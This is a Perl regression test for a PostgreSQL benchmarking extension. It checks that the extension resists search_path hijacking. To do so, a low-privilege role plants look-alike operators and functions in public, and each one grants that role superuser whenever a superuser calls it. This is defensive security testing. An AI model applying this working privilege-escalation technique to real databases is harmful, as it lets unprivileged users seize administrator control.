@@ -1,0 +1,508 @@
+# Operator and function hijacking through search_path (issue 10, section 1),
+# written as the attacker works.  A granted runner, with CREATE on public as
+# pgbench_init needs, plants look-alikes in public:
+#   - an operator for every comparison and arithmetic pair among int2, int4,
+#     int8, float4, float8 and numeric, read from pg_operator: those with no
+#     exact match in pg_catalog (they win under any search_path), and those
+#     with one (they win where public comes before pg_catalog);
+#   - functions and aggregates named like every pg_catalog function that the
+#     install script or the SQL texts of src/*.c and src/*.h call (scanned
+#     from the files, so that a new call is covered by default), with the
+#     pg_catalog signature itself and with argument types that do not match
+#     pg_catalog's exactly (text, int4, int8, numeric, float8, jsonb).
+# Each one, when it runs as a superuser, makes runner a superuser and leaves
+# its name in public.hijack, in a sequence (not undone by a rollback) and as
+# a WARNING in the server log (not undone by anything).
+#
+# Pass "early": the traps are in place before CREATE EXTENSION (views and
+# defaults are bound when the install script runs), and the superuser keeps
+# the default search_path ("$user", public).  Pass "late": CREATE EXTENSION
+# first, then the traps, and the superuser's session runs with
+# search_path = public, pg_catalog, where even an exact match in public wins
+# over pg_catalog's (the loopback connections and the benchmark clients keep
+# the role's default: the clients run the user's own workload as the user).
+# The superuser then uses every entry point; the list of entry points is read
+# from the catalogue (the extension's routines and views), and the test fails
+# for any that %covers below does not exercise.  Afterwards runner is no
+# superuser and no trap left a trace; a positive control shows that the traps
+# are armed.
+use strict;
+use warnings;
+use PostgreSQL::Test::Cluster;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use FindBin;
+use lib "$FindBin::RealBin/../perl";
+use PgbenchxTest;
+
+my $node = pgbenchx_node('search_path_attack', extension => 0);
+my $su = $node->safe_psql('postgres', 'SELECT current_user');
+
+# --- the names the extension's SQL calls ------------------------------------
+my $root = "$FindBin::RealBin/../..";
+my %called;
+{
+	my $sql = slurp_file("$root/pgbenchx--0.1.sql");
+	$called{ lc $1 } = 1 while $sql =~ /\b([A-Za-z_][A-Za-z0-9_]*)\s*\(/g;
+	foreach my $f (glob("$root/src/*.c"), glob("$root/src/*.h"))
+	{
+		my $c = slurp_file($f);
+		while ($c =~ /"((?:[^"\\\n]|\\.)*)"/g)
+		{
+			my $lit = $1;
+			$called{ lc $1 } = 1 while $lit =~ /\b([A-Za-z_][A-Za-z0-9_]*)\s*\(/g;
+		}
+	}
+}
+my $names = '{' . join(',', sort keys %called) . '}';
+
+# --- the traps ---------------------------------------------------------------
+my $traps = q{
+SET search_path = pg_catalog, pg_temp;
+CREATE TABLE public.hijack (log text);
+GRANT SELECT, INSERT ON public.hijack TO PUBLIC;
+CREATE SEQUENCE public.hijack_seq;
+GRANT USAGE, SELECT, UPDATE ON SEQUENCE public.hijack_seq TO PUBLIC;
+
+-- what every trap does: nothing as runner; as a superuser, everything
+CREATE FUNCTION public.pgbx_fire(tag text) RETURNS void
+LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
+BEGIN
+    IF NOT coalesce((SELECT r.rolsuper FROM pg_catalog.pg_roles r
+                     WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER), false) THEN
+        RETURN;
+    END IF;
+    RAISE WARNING 'PGBX-HIJACK % as % (search_path %)', tag, CURRENT_USER,
+        pg_catalog.current_setting('search_path');
+    BEGIN
+        PERFORM pg_catalog.nextval('public.hijack_seq'::pg_catalog.regclass);
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+    BEGIN
+        EXECUTE 'ALTER ROLE runner SUPERUSER';
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+    BEGIN
+        INSERT INTO public.hijack VALUES (pg_catalog.concat_ws(' ', tag, 'as', CURRENT_USER));
+    EXCEPTION WHEN OTHERS THEN NULL;
+    END;
+END $f$;
+
+CREATE FUNCTION public.pgbx_mktrap(fname text, args text, ret text, tag text) RETURNS void
+LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
+BEGIN
+    EXECUTE pg_catalog.format(
+        'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS %L',
+        fname, args, ret,
+        pg_catalog.format('BEGIN PERFORM public.pgbx_fire(%L); RETURN%s; END', tag,
+                          CASE WHEN ret LIKE 'SETOF %' THEN '' ELSE ' NULL' END));
+END $f$;
+
+CREATE TABLE public.pgbx_planted (kind text, sig text);
+
+DO $plant$
+DECLARE
+    names text[] := '@NAMES@';
+    ops text[] := ARRAY['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%'];
+    numt text[] := ARRAY['int2', 'int4', 'int8', 'float4', 'float8', 'numeric'];
+    vt text[] := ARRAY['text', 'int4', 'int8', 'numeric', 'float8', 'jsonb'];
+    o text; l text; r text; x text; y text; rt text; a text;
+    exact boolean;
+    k int := 0;
+    p record;
+    argsets text[];
+    argt text[];
+    n int;
+    ret text;
+    fn text;
+BEGIN
+    -- operators: every pair, from pg_operator's point of view
+    FOREACH o IN ARRAY ops LOOP
+        FOREACH l IN ARRAY numt LOOP
+            FOREACH r IN ARRAY numt LOOP
+                SELECT op.oprresult::regtype::text INTO rt FROM pg_catalog.pg_operator op
+                WHERE op.oprname OPERATOR(pg_catalog.=) o
+                  AND op.oprleft OPERATOR(pg_catalog.=) l::regtype
+                  AND op.oprright OPERATOR(pg_catalog.=) r::regtype
+                  AND op.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace;
+                exact := FOUND;
+                IF NOT exact THEN
+                    rt := CASE WHEN o OPERATOR(pg_catalog.=) ANY (ARRAY['=', '<>', '<', '>', '<=', '>=']) THEN 'bool'
+                               WHEN 'float8' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r])
+                                    OR 'float4' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r]) THEN 'float8'
+                               WHEN 'numeric' OPERATOR(pg_catalog.=) ANY (ARRAY[l, r]) THEN 'numeric'
+                               ELSE 'int8' END;
+                END IF;
+                k := k OPERATOR(pg_catalog.+) 1;
+                fn := 'pgbx_op_' OPERATOR(pg_catalog.||) k::text;
+                BEGIN
+                    PERFORM public.pgbx_mktrap(fn, l OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) r, rt,
+                        pg_catalog.format('operator %s(%s, %s)%s', o, l, r,
+                                          CASE WHEN exact THEN ' (exact)' ELSE '' END));
+                    EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
+                                              o, l, r, fn);
+                    INSERT INTO public.pgbx_planted VALUES (CASE WHEN exact THEN 'exact operator' ELSE 'loose operator' END,
+                        pg_catalog.format('%s(%s, %s)', o, l, r));
+                EXCEPTION WHEN OTHERS THEN
+                    RAISE WARNING 'could not plant operator %(%, %): %', o, l, r, SQLERRM;
+                END;
+            END LOOP;
+        END LOOP;
+    END LOOP;
+
+    -- functions and aggregates named like the pg_catalog ones the SQL calls
+    FOR p IN
+        SELECT pr.oid, pr.proname, pr.prokind, pr.pronargs, pr.provariadic,
+               pr.proargtypes::oid[] AS argtypes, pr.prorettype, pr.proretset, ag.aggkind
+        FROM pg_catalog.pg_proc pr
+        LEFT JOIN pg_catalog.pg_aggregate ag ON ag.aggfnoid OPERATOR(pg_catalog.=) pr.oid
+        WHERE pr.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
+          AND pr.proname OPERATOR(pg_catalog.=) ANY (names)
+          AND pr.prokind OPERATOR(pg_catalog.=) ANY (ARRAY['f', 'a']::"char"[])
+          AND coalesce(ag.aggkind, 'n') OPERATOR(pg_catalog.=) 'n'
+          AND pr.pronargs OPERATOR(pg_catalog.<=) 4
+          AND NOT EXISTS (SELECT 1 FROM pg_catalog.pg_get_keywords() kw
+                          WHERE kw.word OPERATOR(pg_catalog.=) pr.proname::text
+                            AND kw.catcode OPERATOR(pg_catalog.<>) 'U'
+                            AND kw.catcode OPERATOR(pg_catalog.<>) 'T')
+        ORDER BY pr.proname, pr.oid
+    LOOP
+        n := p.pronargs;
+        argsets := '{}';
+        -- the pg_catalog signature itself, when it names no pseudo-type
+        IF NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(p.argtypes) t(oid)
+                       JOIN pg_catalog.pg_type ty ON ty.oid OPERATOR(pg_catalog.=) t.oid
+                       WHERE ty.typtype OPERATOR(pg_catalog.=) 'p') THEN
+            SELECT pg_catalog.string_agg(
+                       CASE WHEN u.i OPERATOR(pg_catalog.=) n AND p.provariadic OPERATOR(pg_catalog.<>) 0
+                            THEN 'VARIADIC ' ELSE '' END OPERATOR(pg_catalog.||) pg_catalog.format_type(u.t, NULL),
+                       ', ' ORDER BY u.i)
+            INTO a FROM pg_catalog.unnest(p.argtypes) WITH ORDINALITY u(t, i);
+            argsets := argsets OPERATOR(pg_catalog.||) coalesce(a, '');
+        END IF;
+        -- loose ones: what an unqualified call with such arguments would match exactly
+        IF n OPERATOR(pg_catalog.=) 1 THEN
+            FOREACH x IN ARRAY vt LOOP argsets := argsets OPERATOR(pg_catalog.||) x; END LOOP;
+        ELSIF n OPERATOR(pg_catalog.=) 2 THEN
+            FOREACH x IN ARRAY vt LOOP
+                FOREACH y IN ARRAY vt LOOP
+                    argsets := argsets OPERATOR(pg_catalog.||) (x OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) y);
+                END LOOP;
+            END LOOP;
+        ELSIF n OPERATOR(pg_catalog.>=) 3 THEN
+            FOREACH x IN ARRAY vt LOOP
+                argsets := argsets
+                    OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill(x, ARRAY[n]), ', ')
+                    OPERATOR(pg_catalog.||) ('text, ' OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill(x, ARRAY[n OPERATOR(pg_catalog.-) 1]), ', '))
+                    OPERATOR(pg_catalog.||) (x OPERATOR(pg_catalog.||) ', ' OPERATOR(pg_catalog.||) pg_catalog.array_to_string(pg_catalog.array_fill('text'::text, ARRAY[n OPERATOR(pg_catalog.-) 1]), ', '));
+            END LOOP;
+        END IF;
+        IF p.provariadic OPERATOR(pg_catalog.<>) 0 AND p.prokind OPERATOR(pg_catalog.=) 'f' THEN
+            FOREACH x IN ARRAY vt LOOP
+                argsets := argsets OPERATOR(pg_catalog.||) ('VARIADIC ' OPERATOR(pg_catalog.||) x OPERATOR(pg_catalog.||) '[]')
+                    OPERATOR(pg_catalog.||) ('text, VARIADIC ' OPERATOR(pg_catalog.||) x OPERATOR(pg_catalog.||) '[]');
+            END LOOP;
+        END IF;
+        IF n OPERATOR(pg_catalog.=) 0 AND p.prokind OPERATOR(pg_catalog.=) 'a' THEN
+            argsets := ARRAY['*'];
+        END IF;
+
+        FOREACH a IN ARRAY argsets LOOP
+            -- the result type: pg_catalog's, or for a polymorphic one the type of the first argument
+            x := pg_catalog.split_part(pg_catalog.regexp_replace(a, '^VARIADIC ', ''), ', ', 1);
+            x := pg_catalog.regexp_replace(x, '^VARIADIC ', '');
+            SELECT CASE WHEN ty.typtype OPERATOR(pg_catalog.<>) 'p' THEN pg_catalog.format_type(ty.oid, NULL)
+                        WHEN ty.typname OPERATOR(pg_catalog.=) ANY (ARRAY['anyarray', 'anycompatiblearray']::name[])
+                             AND x OPERATOR(pg_catalog.<>) '' AND x OPERATOR(pg_catalog.<>) '*' AND x NOT LIKE '%[]'
+                             THEN x OPERATOR(pg_catalog.||) '[]'
+                        WHEN ty.typname OPERATOR(pg_catalog.=) ANY (ARRAY['anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray']::name[])
+                             AND x OPERATOR(pg_catalog.<>) '' AND x OPERATOR(pg_catalog.<>) '*'
+                             THEN pg_catalog.regexp_replace(x, '\[\]$', '')
+                        WHEN ty.typname OPERATOR(pg_catalog.=) 'record' THEN 'record'
+                        WHEN ty.typname OPERATOR(pg_catalog.=) 'void' THEN 'void'
+                        ELSE 'text' END
+            INTO ret FROM pg_catalog.pg_type ty WHERE ty.oid OPERATOR(pg_catalog.=) p.prorettype;
+            k := k OPERATOR(pg_catalog.+) 1;
+            BEGIN
+                IF p.prokind OPERATOR(pg_catalog.=) 'f' THEN
+                    IF p.proretset THEN
+                        ret := 'SETOF ' OPERATOR(pg_catalog.||) ret;
+                    END IF;
+                    PERFORM public.pgbx_mktrap(p.proname::text, a, ret,
+                        pg_catalog.format('function %s(%s)', p.proname, a));
+                ELSE
+                    PERFORM public.pgbx_mktrap('pgbx_aggs_' OPERATOR(pg_catalog.||) k::text,
+                        CASE WHEN a OPERATOR(pg_catalog.=) '*' THEN 'int4' ELSE 'int4, ' OPERATOR(pg_catalog.||) a END, 'int4',
+                        pg_catalog.format('aggregate %s(%s) step', p.proname, a));
+                    PERFORM public.pgbx_mktrap('pgbx_aggf_' OPERATOR(pg_catalog.||) k::text, 'int4', ret,
+                        pg_catalog.format('aggregate %s(%s) final', p.proname, a));
+                    EXECUTE pg_catalog.format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = int4, FINALFUNC = public.%I)',
+                        p.proname, a, 'pgbx_aggs_' OPERATOR(pg_catalog.||) k::text, 'pgbx_aggf_' OPERATOR(pg_catalog.||) k::text);
+                END IF;
+                INSERT INTO public.pgbx_planted VALUES (CASE p.prokind WHEN 'f' THEN 'function' ELSE 'aggregate' END,
+                    pg_catalog.format('%s(%s)', p.proname, a));
+            EXCEPTION WHEN OTHERS THEN
+                NULL;   -- a duplicate of one planted from another overload, or a type that does not fit
+            END;
+        END LOOP;
+    END LOOP;
+END $plant$;
+};
+$traps =~ s/\@NAMES\@/$names/;
+
+$node->safe_psql('postgres', q{
+	CREATE ROLE runner LOGIN;
+	CREATE DATABASE early;
+	CREATE DATABASE late;
+});
+
+# the README's grants (grant_runner() where this version has it)
+sub grant_runner
+{
+	my ($db) = @_;
+	$node->safe_psql($db, q{
+		SET search_path = pg_catalog, pg_temp;
+		GRANT CREATE ON SCHEMA public TO runner;
+		DO $g$
+		BEGIN
+			IF pg_catalog.to_regprocedure('pgbenchx.grant_runner(name)') IS NOT NULL THEN
+				EXECUTE 'SELECT pgbenchx.grant_runner(''runner'')';
+			ELSIF pg_catalog.to_regprocedure('pgbenchx.grant_runner(regrole)') IS NOT NULL THEN
+				EXECUTE 'SELECT pgbenchx.grant_runner(''runner'')';
+			ELSE
+				GRANT EXECUTE ON ALL ROUTINES IN SCHEMA public TO runner;
+				GRANT USAGE ON SCHEMA pgbenchx TO runner;
+				GRANT EXECUTE ON ALL ROUTINES IN SCHEMA pgbenchx TO runner;
+				GRANT SELECT ON ALL TABLES IN SCHEMA pgbenchx TO runner;
+			END IF;
+		END $g$;
+	});
+}
+
+# runner plants; returns how many of each kind
+sub plant
+{
+	my ($db) = @_;
+	my ($ret, $out, $err) = $node->psql($db, $traps, extra_params => [ '-U', 'runner' ]);
+	is($ret, 0, "$db: runner plants its traps in public") or diag($err);
+	my %n = map { split /\|/ } split /\n/, $node->safe_psql($db,
+		'SELECT kind, pg_catalog.count(*) FROM public.pgbx_planted GROUP BY kind');
+	note("$db: planted " . join(', ', map { "$n{$_} ${_}s" } sort keys %n));
+	cmp_ok($n{'loose operator'} // 0, '>=', 200, "$db: the loose operators are planted");
+	cmp_ok($n{'function'} // 0, '>=', 500, "$db: the look-alike functions are planted");
+	cmp_ok($n{'aggregate'} // 0, '>=', 20, "$db: the look-alike aggregates are planted");
+	my $must = $node->safe_psql($db, q{
+		SELECT pg_catalog.concat_ws(' ',
+			(SELECT pg_catalog.string_agg(w, ' ') FROM pg_catalog.unnest(ARRAY[
+				'public.>=(float8, int4)', 'public.*(float8, int4)', 'public.=(int8, int4)',
+				'public./(int8, float8)', 'public.=(int8, int8)']) w
+			 WHERE pg_catalog.to_regoperator(w) IS NULL),
+			(SELECT pg_catalog.string_agg(w, ' ') FROM pg_catalog.unnest(ARRAY[
+				'public.format(text, numeric[])', 'public.round(float8, int4)', 'public.log(float8)',
+				'public.nextval(text)', 'public.array_agg(float8)', 'public.count()', 'public.sum(int4)',
+				'public.now()', 'public.concat_ws(text, text[])', 'public.to_char(float8, text)']) w
+			 WHERE pg_catalog.to_regprocedure(w) IS NULL))});
+	is($must, '', "$db: among them the issue's examples");
+}
+
+# the traces the traps leave
+my %mark;
+sub traces
+{
+	my ($db) = @_;
+	return $node->safe_psql($db, q{
+		SELECT pg_catalog.concat_ws(' | ',
+			(SELECT pg_catalog.string_agg(h.log, '; ') FROM public.hijack h),
+			(SELECT CASE WHEN r.rolsuper THEN 'runner is superuser' END FROM pg_catalog.pg_roles r
+			 WHERE r.rolname OPERATOR(pg_catalog.=) 'runner'::name),
+			(SELECT CASE WHEN s.is_called THEN 'sequence at ' OPERATOR(pg_catalog.||) s.last_value::text END
+			 FROM public.hijack_seq s))})
+	  . join(' | ', grep { /PGBX-HIJACK/ } split /\n/, slurp_file($node->logfile, $mark{$db}));
+}
+
+sub reset_traces
+{
+	my ($db) = @_;
+	$node->safe_psql($db, q{
+		ALTER ROLE runner NOSUPERUSER;
+		TRUNCATE public.hijack;
+		SELECT pg_catalog.setval('public.hijack_seq'::pg_catalog.regclass, 1, false);
+	});
+	$mark{$db} = -s $node->logfile;
+}
+
+# positive control: the superuser's own careless query does fire a trap
+sub positive_control
+{
+	my ($db) = @_;
+	reset_traces($db);
+	$node->psql($db, 'SELECT 2.5::float8 >= 1');
+	my $t = traces($db);
+	like($t, qr/operator >=\(float8, int4\) as \Q$su\E/, "$db: control: a planted operator fires for a superuser's plain query");
+	like($t, qr/runner is superuser/, "$db: control: and makes runner a superuser");
+	like($t, qr/sequence at 1/, "$db: control: and counts itself in the sequence");
+	like($t, qr/PGBX-HIJACK/, "$db: control: and in the server log");
+	reset_traces($db);
+	is(traces($db), '', "$db: control undone");
+}
+
+# --- the entry points ----------------------------------------------------------
+# The catalogue: every routine (name and argument types) and view of pgbenchx.
+sub catalogue
+{
+	my ($db) = @_;
+	return split /\n/, $node->safe_psql($db, q{
+		SELECT x FROM (
+			SELECT p.proname OPERATOR(pg_catalog.||) '(' OPERATOR(pg_catalog.||)
+			       pg_catalog.oidvectortypes(p.proargtypes) OPERATOR(pg_catalog.||) ')' AS x
+			FROM pg_catalog.pg_depend d
+			JOIN pg_catalog.pg_proc p ON p.oid OPERATOR(pg_catalog.=) d.objid
+			WHERE d.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_proc'::pg_catalog.regclass
+			  AND d.refclassid OPERATOR(pg_catalog.=) 'pg_catalog.pg_extension'::pg_catalog.regclass
+			  AND d.refobjid OPERATOR(pg_catalog.=) (SELECT e.oid FROM pg_catalog.pg_extension e
+			                                          WHERE e.extname OPERATOR(pg_catalog.=) 'pgbenchx'::name)
+			  AND d.deptype OPERATOR(pg_catalog.=) 'e'::"char"
+			UNION ALL
+			SELECT 'view ' OPERATOR(pg_catalog.||) c.relname::text
+			FROM pg_catalog.pg_depend d
+			JOIN pg_catalog.pg_class c ON c.oid OPERATOR(pg_catalog.=) d.objid
+			WHERE d.classid OPERATOR(pg_catalog.=) 'pg_catalog.pg_class'::pg_catalog.regclass
+			  AND d.refclassid OPERATOR(pg_catalog.=) 'pg_catalog.pg_extension'::pg_catalog.regclass
+			  AND d.refobjid OPERATOR(pg_catalog.=) (SELECT e.oid FROM pg_catalog.pg_extension e
+			                                          WHERE e.extname OPERATOR(pg_catalog.=) 'pgbenchx'::name)
+			  AND d.deptype OPERATOR(pg_catalog.=) 'e'::"char"
+			  AND c.relkind OPERATOR(pg_catalog.=) 'v'::"char") q
+		ORDER BY x});
+}
+
+# Which step below exercises which entry point.  An entry point missing here
+# fails the test: add the SQL that uses it to the steps and its key here.
+my %covers = (
+	'pgbench_init(integer, integer, integer, text, boolean, boolean)' => 'init',
+	'run_bench(integer, integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, boolean)' => 'run',
+	'run_sweep(integer, integer, integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, integer, boolean)' => 'sweep',
+	'run_sweep(integer[], integer, text, integer, text, bigint, boolean, boolean, text, text, bigint, jsonb, double precision, double precision, integer, boolean, jsonb, integer, boolean)' => 'sweep_list',
+	'run_replay(text, integer, integer, boolean, boolean, integer, text, boolean, text, text, jsonb, bigint)' => 'replay',
+	'wait(bigint)' => 'run',
+	'cancel(bigint)' => 'cancel',
+	'sweep_ladder(integer, integer)' => 'misc',
+	'check_tpcb()' => 'misc',
+	'eval(text, jsonb, bigint)' => 'misc',
+	'builtin_scripts()' => 'scripts',
+	'add_script(text, text, boolean)' => 'scripts',
+	'drop_script(text)' => 'scripts',
+	'script_text(text)' => 'scripts',
+	'view scripts' => 'scripts',
+	'view progress' => 'cancel',
+	'capture_environment()' => 'environment',
+	'environment_of(bigint)' => 'environment',
+	'env_diff(bigint, bigint)' => 'environment',
+	'xml_escape(text)' => 'charts',
+	'chart_step(double precision, integer)' => 'charts',
+	'chart_number(double precision, double precision)' => 'charts',
+	'chart_sweeps(bigint[])' => 'charts',
+	'chart_run(bigint)' => 'charts',
+	'sweep_report(bigint)' => 'charts',
+	'compare(bigint, bigint)' => 'compare',
+	'view sweep_points' => 'compare',
+	'view sweep_summary' => 'compare',
+	'export(bigint[])' => 'export',
+	'import(jsonb)' => 'export',
+);
+
+# the superuser's session: search_path as the pass has it, and every entry point
+sub exercise
+{
+	my ($db, $path, $init) = @_;
+	my $set = "SET client_min_messages = warning;" . (defined $path ? " SET search_path = $path;" : '');
+	my %done;
+	my $sql = sub {
+		my ($step, $q, %o) = @_;
+		$done{$step} = 1;
+		my ($ret, $out, $err) = $node->psql($db, "$set $q");
+		is($ret, 0, "$db: $step: $q") or diag($err) unless $o{may_fail};
+		return $out;
+	};
+	# a run's polling by the test itself: exact types only, default search_path
+	my $sampled = sub {
+		my ($id) = @_;
+		return $node->poll_query_until($db,
+			"SELECT coalesce(pg_catalog.max(p.seconds_sampled), 0) OPERATOR(pg_catalog.>=) 1 "
+			  . "FROM pgbenchx.progress p WHERE p.run_id OPERATOR(pg_catalog.=) ${id}::bigint");
+	};
+
+	$sql->('init', "SELECT pgbench_init($init)");
+	my $run = $sql->('run', "SELECT run_bench(2, 1, 'tpcb-like', check_tpcb => true)");
+	$sql->('run', "CALL pgbenchx.wait($run)");
+	my $sweep = $sql->('sweep', "SELECT run_sweep(1, 2, transactions => 30, script => 'select-only', checkpoint => false)");
+	$sql->('sweep', "CALL pgbenchx.wait($sweep)");
+	$sql->('scripts', "SELECT pgbenchx.add_script('trapped', E'\\\\set x random(1, 10) * 2 + abs(-1)\\nSELECT :x;\\n')");
+	my $list = $sql->('sweep_list', "SELECT run_sweep('{1,2}'::int[], transactions => 30, script => 'tpcb-like\@3, trapped\@1', "
+		  . "repeats => 2, checkpoint => false, check_tpcb => false, tags => '{\"pass\": \"$db\"}')");
+	$sql->('sweep_list', "CALL pgbenchx.wait($list)");
+	my $replay = $sql->('replay', "SELECT run_replay(E'SELECT 1;\\nSELECT abalance FROM pgbench_accounts WHERE aid = 1;\\nSELECT 1/0;\\n', 1, 2, checkpoint => false)");
+	$sql->('replay', "CALL pgbenchx.wait($replay)");
+
+	# a long run: wait until progress shows (wait's 5-second report), then cancel
+	my $long = $sql->('cancel', "SELECT run_bench(1, 60, 'trapped', vacuum => false, checkpoint => false)");
+	ok($sampled->($long), "$db: the long run samples");
+	$sql->('cancel', "SET statement_timeout = '6s'; CALL pgbenchx.wait($long)", may_fail => 1);
+	$sql->('cancel', "SELECT * FROM pgbenchx.progress");
+	is($sql->('cancel', "SELECT pgbenchx.cancel($long)"), 't', "$db: cancel signals the long run");
+	$sql->('cancel', "CALL pgbenchx.wait($long)");
+	ok(nothing_left($node), "$db: nothing left running");
+
+	$sql->('misc', "SELECT * FROM pgbenchx.check_tpcb()");
+	$sql->('misc', "SELECT pgbenchx.eval('abs(-3) + :x * 2 + random(1, 5)', '{\"x\": \"4\"}', 42)");
+	$sql->('misc', "SELECT pgbenchx.sweep_ladder(1, 100)");
+	$sql->('scripts', "SELECT pgbenchx.script_text('trapped'), pgbenchx.script_text('tpcb')");
+	$sql->('scripts', "SELECT * FROM pgbenchx.scripts");
+	$sql->('scripts', "SELECT * FROM pgbenchx.builtin_scripts()");
+	$sql->('scripts', "SELECT pgbenchx.add_script('trapped', E'SELECT 2;\\n', replace => true)");
+	$sql->('scripts', "SELECT pgbenchx.drop_script('trapped')");
+	$sql->('environment', "SELECT pgbenchx.capture_environment()");
+	$sql->('environment', "SELECT pgbenchx.environment_of($run)");
+	$sql->('environment', "SELECT * FROM pgbenchx.env_diff($run, $sweep)");
+	$sql->('charts', "SELECT pgbenchx.chart_sweeps('{$sweep,$list}'::bigint[])");
+	$sql->('charts', "SELECT pgbenchx.chart_run($run)");
+	$sql->('charts', "SELECT * FROM pgbenchx.sweep_report($list)");
+	$sql->('charts', "SELECT pgbenchx.xml_escape(E'<a & \"b\">\\x01')");
+	$sql->('charts', "SELECT pgbenchx.chart_step(123.5, 6), pgbenchx.chart_number(12345.6, 100000)");
+	$sql->('compare', "SELECT * FROM pgbenchx.compare($sweep, $list)");
+	$sql->('compare', "SELECT * FROM pgbenchx.sweep_points");
+	$sql->('compare', "SELECT * FROM pgbenchx.sweep_summary");
+	$sql->('export', "SELECT pgbenchx.import(pgbenchx.export('{$sweep,$list,$replay}'::bigint[]))");
+	$sql->('export', "SELECT * FROM pgbenchx.sweep_summary");
+
+	# every entry point of the catalogue was used
+	my @missing = grep { !exists $covers{$_} || !$done{ $covers{$_} } } catalogue($db);
+	is(join("\n", @missing), '', "$db: every routine and view of the extension was exercised");
+	my %cat = map { $_ => 1 } catalogue($db);
+	is(join("\n", grep { !$cat{$_} } sort keys %covers), '', "$db: the map names no routine the extension lacks");
+}
+
+# --- pass "early": traps first, then CREATE EXTENSION; default search_path -------
+$node->safe_psql('early', 'GRANT CREATE ON SCHEMA public TO runner');
+plant('early');
+positive_control('early');
+$node->safe_psql('early', 'CREATE EXTENSION pgbenchx');
+grant_runner('early');
+is(traces('early'), '', 'early: CREATE EXTENSION over the traps fires none');
+exercise('early', undef, '1');
+is(traces('early'), '', 'early: no trap fired: runner gained nothing (default search_path, views bound over the traps)');
+
+# --- pass "late": CREATE EXTENSION, then the traps; public before pg_catalog ---------
+$node->safe_psql('late', 'CREATE EXTENSION pgbenchx');
+grant_runner('late');
+plant('late');
+positive_control('late');
+exercise('late', 'public, pg_catalog', "1, partitions => 2, partition_method => 'hash', foreign_keys => true");
+is(traces('late'), '', 'late: no trap fired: runner gained nothing (search_path = public, pg_catalog)');
+
+# and the traps are still armed at the end
+positive_control('late');
+is($node->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'runner'"), 'f',
+	'runner is no superuser at the end');
+
+$node->stop;
+done_testing();
